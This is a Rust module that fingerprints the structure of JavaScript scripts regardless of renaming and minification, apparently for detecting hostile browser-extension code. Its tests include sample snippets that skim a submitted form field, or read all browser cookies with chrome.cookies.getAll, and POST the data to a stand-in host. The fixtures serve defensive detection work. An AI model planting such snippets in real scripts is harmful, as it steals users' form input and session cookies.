//! The shape of a script: which operations stand in which, without the names that its author or a minifier chose.
//!
//! An *operation* is something whose name outlives renaming and minifying: a call of `chrome.tabs.query` or of any method
//! `.getContent`, a member that is read, the key of an object, a word such as `"POST"`. Everything else (variables,
//! functions, statements, operators) is looked through: a variable that is written once is what was written, a call of a
//! function of the script is what stands in that function, a parameter is what its callers hand over. So it does not matter
//! whether a minifier has inlined a function, or turned an `if` into `&&`, and the order of statements and functions says
//! nothing either. What is counted is each operation, and each pair of an operation and one that stands directly in it.

mod hash;

use rustc_hash::{FxHashMap, FxHashSet};

use super::ir::{ClassId, Expr, ExprId, FuncId, Ir, Key, List, NONE, Prop, SymbolId};
use super::names::Name;
use super::program::{Program, Unit};

pub(super) use hash::NameHashes;
use hash::{Said, mix};

/// Operations that are kept as standing directly in one, those with the smallest hashes. Enough for a callback of forty
/// lines; a module of a bundle has thousands.
const NEAR: usize = 24;
/// Values of a variable, and callers of a function, that are looked through.
const WAYS: usize = 4;
/// Steps from one expression to what stands in it.
const DEPTH: u32 = 160;
/// Links of a chain of members.
const LINKS: u32 = 12;

/// What an operation does with its name. Part of every hash: a change here is a new version of fingerprints.
#[derive(Clone, Copy)]
enum Deed {
    Call = 1,
    New,
    Read,
    Write,
    Key,
    Word,
    Address,
    Pattern,
    Pair,
}

/// What one script is built like.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Shape {
    /// Path inside the package; for a script inside a page, the page's.
    pub file: String,
    /// Hashes of its operations and pairs, in order, each once.
    pub features: Vec<u32>,
}

/// The shapes of all scripts of a program, in order.
pub(super) fn shapes(program: &Program<'_>, known: &NameHashes) -> Vec<Shape> {
    let one = |unit: &Unit<'_>| {
        let mut walk = Walk::new(unit, known);
        for at in 0..unit.ir.exprs.len() as u32 {
            walk.near(ExprId(at), 0);
        }
        let mut features: Vec<u32> = walk.found.into_iter().collect();
        features.sort_unstable();
        Shape { file: unit.file.clone(), features }
    };
    program.units.iter().map(one).collect()
}

/// What is known of an expression so far.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Seen {
    Not,
    Open,
    /// A range of the arena.
    Done(u32, u8),
}

/// What stands directly in an expression, where that needs no looking at.
enum Same {
    Nothing,
    As(ExprId),
    Own,
}

struct Walk<'p> {
    known: &'p NameHashes,
    ir: &'p Ir,
    decoded: &'p FxHashMap<u32, Name>,
    /// Expressions of each function that nothing uses: its statements.
    roots: Vec<Vec<ExprId>>,
    /// Variables that hold an object literal of which only members are read.
    records: FxHashSet<SymbolId>,
    /// Arguments that each function is called with.
    callers: FxHashMap<FuncId, Vec<List>>,
    seen: Vec<Seen>,
    /// What stands in the expressions that are looked at just now, one within the other.
    open: Vec<u64>,
    arena: Vec<u64>,
    found: FxHashSet<u32>,
}

impl<'p> Walk<'p> {
    fn new(unit: &'p Unit<'_>, known: &'p NameHashes) -> Walk<'p> {
        let ir = &unit.ir;
        let mut walk = Walk {
            known,
            ir,
            decoded: &unit.decoded,
            records: (0..ir.symbols.len() as u32).map(SymbolId).filter(|&symbol| is_record(ir, symbol)).collect(),
            roots: vec![Vec::new(); ir.funcs.len()],
            callers: FxHashMap::default(),
            seen: vec![Seen::Not; ir.exprs.len()],
            open: Vec::new(),
            arena: Vec::new(),
            found: FxHashSet::default(),
        };
        for at in (0..ir.exprs.len() as u32).map(ExprId) {
            if ir.parent(at).is_none() && !matches!(ir.expr(at), Expr::Function(_) | Expr::Class(_) | Expr::Param { .. }) {
                walk.roots[ir.func_of(at).index()].push(at);
            }
            if let Expr::Call { callee, args } = ir.expr(at)
                && let Some(func) = walk.function(callee)
            {
                walk.callers.entry(func).or_default().push(args);
            }
        }
        walk
    }

    /// The function of the script that an expression is.
    fn function(&self, at: ExprId) -> Option<FuncId> {
        let mut at = at;
        for _ in 0..4 {
            at = match self.ir.expr(at) {
                Expr::Function(func) => return Some(func),
                Expr::Local(symbol) => self.only_value(symbol)?,
                Expr::Member { object, name } => self.field(object, name)?,
                Expr::Use(value) => value,
                _ => return None,
            };
        }
        None
    }

    /// What is written to a symbol that is written once.
    fn only_value(&self, symbol: SymbolId) -> Option<ExprId> {
        match self.ir.writes(symbol) {
            &[value] => Some(value),
            _ => None,
        }
    }

    /// What a member of a record is. Minifiers make variables of such members, so their names say nothing.
    fn field(&self, object: ExprId, name: Name) -> Option<ExprId> {
        let Expr::Local(symbol) = self.ir.expr(object) else { return None };
        if !self.records.contains(&symbol) {
            return None;
        }
        let Expr::Object { first, count } = self.ir.expr(self.only_value(symbol)?) else { return None };
        let props = self.ir.props(first, count);
        props.iter().find(|prop| prop.key == Key::Name(name)).map(|prop| prop.value)
    }

    /// The string that an expression is: as it stands there, or decoded.
    fn text(&self, at: ExprId) -> Option<Name> {
        match self.ir.expr(at) {
            Expr::Text(name) => Some(name),
            Expr::Call { args, .. } => self.decoded.get(&self.ir.list_end(args)).copied(),
            Expr::Use(value) => match self.ir.expr(value) {
                Expr::Text(name) => Some(name),
                _ => None,
            },
            _ => None,
        }
    }

    /// The names of a chain of members, and what they are members of where that has no name.
    fn chain(&self, at: ExprId, links: u32) -> (u64, Option<ExprId>) {
        if links > LINKS {
            return (0, None);
        }
        match self.ir.expr(at) {
            Expr::Global(name) if self.known.windows.contains(&name) => (1, None),
            Expr::Global(name) if !self.known.own.contains(&name) => (mix(1, self.known.of(name)), None),
            Expr::Member { object, name } => match self.field(object, name) {
                Some(value) if self.is_named(value) => self.chain(value, links + 1),
                Some(_) => (0, Some(at)),
                None => {
                    let (chain, base) = self.chain(object, links + 1);
                    (mix(chain, self.known.of(name)), base)
                }
            },
            Expr::Index { object, index } => match self.text(index) {
                Some(name) => {
                    let (chain, base) = self.chain(object, links + 1);
                    (mix(chain, self.known.of(name)), base)
                }
                None => (0, Some(at)),
            },
            Expr::Use(value) => self.chain(value, links + 1),
            Expr::Local(symbol) => match self.only_value(symbol) {
                Some(value) if self.is_named(value) => self.chain(value, links + 1),
                _ => (0, Some(at)),
            },
            _ => (0, Some(at)),
        }
    }

    /// Whether an expression is a member or a name that the script does not declare, perhaps by way of a variable.
    fn is_named(&self, at: ExprId) -> bool {
        match self.ir.expr(at) {
            Expr::Member { object, name } => self.field(object, name).is_none(),
            Expr::Global(name) => !self.known.own.contains(&name),
            Expr::Index { index, .. } => self.text(index).is_some(),
            Expr::Local(symbol) => self
                .only_value(symbol)
                .is_some_and(|value| matches!(self.ir.expr(value), Expr::Member { .. } | Expr::Global(_))),
            _ => false,
        }
    }

    fn is_record_literal(&self, at: ExprId) -> bool {
        let written = self.ir.parent(at).map(|parent| self.ir.expr(parent));
        matches!(written, Some(Expr::Write { symbol, .. }) if self.records.contains(&symbol))
    }

    /// Whether a chain of members goes on from here, so that only its end is an operation.
    fn goes_on(&self, at: ExprId) -> bool {
        self.ir.parent(at).is_some_and(|parent| match self.ir.expr(parent) {
            Expr::Member { object, .. } | Expr::Index { object, .. } => object == at,
            Expr::Call { callee, .. } | Expr::New { callee, .. } => callee == at,
            Expr::Assign { target, .. } => target == at,
            Expr::Write { symbol, .. } => self.only_value(symbol).is_some(),
            _ => false,
        })
    }

    /// The operations that stand directly in an expression, or the one that it is; a range of the arena.
    fn near(&mut self, at: ExprId, depth: u32) -> (u32, u8) {
        match self.seen.get(at.index()) {
            Some(&Seen::Done(from, count)) => return (from, count),
            Some(Seen::Not) if depth < DEPTH => {}
            _ => return (0, 0),
        }
        self.seen[at.index()] = Seen::Open;
        let (from, count) = match self.same_as(at) {
            Same::Nothing => (0, 0),
            Same::As(other) => self.near(other, depth + 1),
            Same::Own => {
                let mark = self.open.len();
                self.look(at, mark, depth + 1);
                self.settle(mark);
                let from = self.arena.len() as u32;
                self.arena.extend_from_slice(&self.open[mark..]);
                let count = self.open.len() - mark;
                self.open.truncate(mark);
                (from, count as u8)
            }
        };
        self.seen[at.index()] = Seen::Done(from, count);
        (from, count)
    }

    /// What needs no looking at: nothing stands in it, or only what stands in another expression.
    fn same_as(&self, at: ExprId) -> Same {
        match self.ir.expr(at) {
            Expr::Unknown
            | Expr::Undefined
            | Expr::Null
            | Expr::This
            | Expr::Super
            | Expr::ImportMeta
            | Expr::Bool(_)
            | Expr::Number(_)
            | Expr::Rest { .. } => Same::Nothing,
            // The fields of a record count where they are read.
            Expr::Object { .. } if self.is_record_literal(at) => Same::Nothing,
            // What is written once counts where it is read.
            Expr::Write { symbol, .. } if self.only_value(symbol).is_some() => Same::Nothing,
            Expr::Local(symbol) => match self.ir.writes(symbol) {
                [] => Same::Nothing,
                &[value] => Same::As(value),
                values if values.len() > WAYS => Same::Nothing,
                _ => Same::Own,
            },
            Expr::Write { value, .. }
            | Expr::Spread(value)
            | Expr::Unary { value, .. }
            | Expr::Await(value)
            | Expr::Yield(value)
            | Expr::Return { value, .. }
            | Expr::Element(value)
            | Expr::Key(value)
            | Expr::Without { value, .. }
            | Expr::Import(value)
            | Expr::Use(value) => Same::As(value),
            _ => Same::Own,
        }
    }

    /// Puts what stands in an open expression into order, each operation once, and no more than [`NEAR`] of them.
    fn settle(&mut self, mark: usize) {
        self.open[mark..].sort_unstable();
        let mut kept = mark;
        for at in mark..self.open.len() {
            if kept == mark || self.open[kept - 1] != self.open[at] {
                self.open[kept] = self.open[at];
                kept += 1;
            }
        }
        self.open.truncate(kept.min(mark + NEAR));
    }

    /// Adds what stands directly in an expression.
    fn take(&mut self, at: ExprId, depth: u32) {
        let (from, count) = self.near(at, depth);
        self.open.extend_from_slice(self.arena.get(from as usize..from as usize + count as usize).unwrap_or(&[]));
    }

    /// Adds what stands directly in expressions; `mark` is where the set begins that it is added to.
    fn take_all(&mut self, all: impl IntoIterator<Item = ExprId>, mark: usize, depth: u32) {
        for at in all {
            self.take(at, depth);
            // Lists of thousands of items say no more than their smallest hashes do.
            if self.open.len() - mark > 64 * NEAR {
                self.settle(mark);
            }
        }
    }

    /// Counts an operation and what stands in it, which is all that is open from `mark` on, and puts its hash in that one's place.
    fn operation(&mut self, deed: Deed, name: u64, mark: usize) {
        self.settle(mark);
        let operation = mix(deed as u64, name);
        self.found.insert(operation as u32);
        let pair = mix(Deed::Pair as u64, operation);
        self.found.extend(self.open[mark..].iter().map(|&inner| mix(pair, inner) as u32));
        self.open.truncate(mark);
        self.open.push(operation);
    }

    /// Puts what stands directly in an expression on top of what is open, which ends at `mark`.
    fn look(&mut self, at: ExprId, mark: usize, depth: u32) {
        let ir = self.ir;
        match ir.expr(at) {
            Expr::Text(name) => self.word(name, mark),
            Expr::Regex { .. } => self.operation(Deed::Pattern, 0, mark),
            Expr::Member { .. } | Expr::Global(_) | Expr::Index { .. } => self.read(at, mark, depth),
            Expr::Call { callee, args } | Expr::New { callee, args } => {
                if let Some(&name) = self.decoded.get(&ir.list_end(args)) {
                    return self.word(name, mark);
                }
                let (chain, base) = self.chain(callee, 0);
                let named = base != Some(callee) && (chain != 0) && self.is_named(callee);
                if named {
                    self.take_all(base.into_iter().chain(ir.list(args)), mark, depth);
                    let deed = if matches!(ir.expr(at), Expr::New { .. }) { Deed::New } else { Deed::Call };
                    return self.operation(deed, chain, mark);
                }
                match self.function(callee) {
                    Some(func) => {
                        self.take(ir.func(func).expr, depth);
                        if self.callers.get(&func).is_none_or(|callers| callers.len() > WAYS) {
                            self.take_all(ir.list(args), mark, depth);
                        }
                    }
                    None => self.take_all(std::iter::once(callee).chain(ir.list(args)), mark, depth),
                }
            }
            Expr::Object { first, count } => self.members(ir.props(first, count), depth),
            Expr::Class(class) => self.class(class, mark, depth),
            Expr::Function(func) => {
                let roots = std::mem::take(&mut self.roots[func.index()]);
                self.take_all(roots, mark, depth);
            }
            Expr::Assign { target, value } => {
                let (chain, base) = self.chain(target, 0);
                if self.is_named(target) && !matches!(ir.expr(target), Expr::Global(_)) {
                    self.take_all(base.into_iter().chain([value]), mark, depth);
                    return self.operation(Deed::Write, chain, mark);
                }
                self.take(value, depth);
            }
            Expr::Local(symbol) => self.take_all(ir.writes(symbol).iter().copied(), mark, depth),
            Expr::Param { func, index } => {
                let callers = self.callers.get(&func).filter(|callers| callers.len() <= WAYS).cloned().unwrap_or_default();
                self.take_all(callers.into_iter().filter_map(|args| ir.item(args, index as usize)), mark, depth);
            }
            Expr::Array(list) | Expr::Concat(list) | Expr::Any(list) => self.take_all(ir.list(list), mark, depth),
            Expr::Binary { left, right, .. } => self.take_all([left, right], mark, depth),
            // See `same_as`.
            _ => {}
        }
    }

    /// A chain of members, or a name that the script does not declare.
    fn read(&mut self, at: ExprId, mark: usize, depth: u32) {
        let (chain, base) = self.chain(at, 0);
        if base == Some(at) {
            match self.ir.expr(at) {
                Expr::Index { object, index } => self.take_all([object, index], mark, depth),
                Expr::Member { object, name } => self.take_all(self.field(object, name), mark, depth),
                _ => {}
            }
            return;
        }
        self.take_all(base, mark, depth);
        if !self.goes_on(at) {
            self.operation(Deed::Read, chain, mark);
        }
    }

    /// A string: a word, an address, or a text that says nothing.
    fn word(&mut self, name: Name, mark: usize) {
        match self.known.said.get(name.0 as usize) {
            Some(Said::Address) => self.operation(Deed::Address, 0, mark),
            Some(Said::Word) => self.operation(Deed::Word, self.known.of(name), mark),
            Some(Said::Nothing) | None => {}
        }
    }

    fn class(&mut self, class: ClassId, mark: usize, depth: u32) {
        let ir = self.ir;
        let Some(class) = ir.classes.get(class.index()) else { return };
        self.members(&class.members, depth);
        let constructor = class.constructor.map(|func| ir.func(func).expr);
        self.take_all(constructor.into_iter().chain([class.parent]).filter(|&at| at != NONE), mark, depth);
    }

    /// The keys of an object or class, each with what its value is made of.
    fn members(&mut self, props: &[Prop], depth: u32) {
        for prop in props {
            let mark = self.open.len();
            self.take(prop.value, depth);
            match prop.key {
                Key::Name(name) => self.operation(Deed::Key, self.known.of(name), mark),
                Key::Computed(key) => self.take(key, depth),
                Key::Spread => {}
            }
        }
    }
}

/// Whether a variable holds an object literal of which nothing is done but to read members that it has.
fn is_record(ir: &Ir, symbol: SymbolId) -> bool {
    let &[value] = ir.writes(symbol) else { return false };
    let Expr::Object { first, count } = ir.expr(value) else { return false };
    let props = ir.props(first, count);
    let reads = ir.reads(symbol);
    props.iter().all(|prop| matches!(prop.key, Key::Name(_)))
        && !reads.is_empty()
        && reads.iter().all(|&read| {
            let mut uses = ir.uses(read);
            let (first, more) = (uses.next(), uses.next());
            first.is_some_and(|member| match ir.expr(member) {
                Expr::Member { object, name } if object == read && more.is_none() => {
                    let written =
                        ir.uses(member).any(|user| matches!(ir.expr(user), Expr::Assign { target, .. } if target == member));
                    !written && props.iter().any(|prop| prop.key == Key::Name(name))
                }
                _ => false,
            })
        })
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use crate::acquire::Package;
    use crate::script::evaluate::NoEvaluator;
    use crate::script::{Input, analyse};

    fn features(text: &str) -> Vec<u32> {
        let package = Package::from_memory("test", [("a.js", text.as_bytes())]);
        let (analysis, _) = analyse(&Input::new(None, &package), &NoEvaluator);
        analysis.shapes.into_iter().next().unwrap().features
    }

    /// What people and minifiers change without changing what a script does.
    #[test]
    fn the_same_operations_have_the_same_shape() {
        let plain = "const url = 'https://a.invalid/'; \
            function send(data) { fetch(url, { method: 'POST', body: JSON.stringify({ data }) }); } \
            document.addEventListener('submit', function (event) { \
                const field = event.target.querySelector('input'); \
                if (field) { send(field.value); } \
            });";
        for other in [
            // Names, order, forms of functions.
            "document.addEventListener('submit', (a) => { let b = a.target.querySelector('input'); if (!b) return; c(b.value); }); \
             const c = (d) => { fetch(e, { body: JSON.stringify({ data: d }), method: 'POST' }) }, e = 'https://b.invalid/';",
            // Inlined, as terser does it.
            "document.addEventListener('submit',(t=>{const e=t.target.querySelector('input');e&&fetch('https://a.invalid/',\
             {method:'POST',body:JSON.stringify({data:e.value})})}));",
            // Through window, by strings, by destructuring, by a record.
            "const c = { u: 'https://a.invalid/' }; window['document'].addEventListener('submit', function ({ target }) { \
                var f = target['querySelector']('input'); \
                f ? self.fetch(c.u, { ['method']: 'POST', body: JSON.stringify({ data: f.value }) }) : 0; });",
        ] {
            assert_eq!(features(plain), features(other), "{other}");
        }
    }

    #[test]
    fn other_operations_have_another_shape() {
        let one = features("chrome.cookies.getAll({}, (all) => fetch('https://a.invalid/', { body: all }))");
        let two = features("chrome.cookies.getAll({}, (all) => console.log(all)); fetch('https://a.invalid/', { body: 1 })");
        assert!(one.iter().any(|feature| !two.contains(feature)) && two.iter().any(|feature| !one.contains(feature)));
    }

    #[test]
    fn circles_end() {
        features(
            "function a(x) { return b(x); } function b(x) { return a(x) + c; } var c = a(c); let d = { e: () => d.e() }; d.e();",
        );
        let deep = format!("x({}1{})", "f(".repeat(400), ")".repeat(400));
        assert!(features(&deep).len() > 1);
    }
}
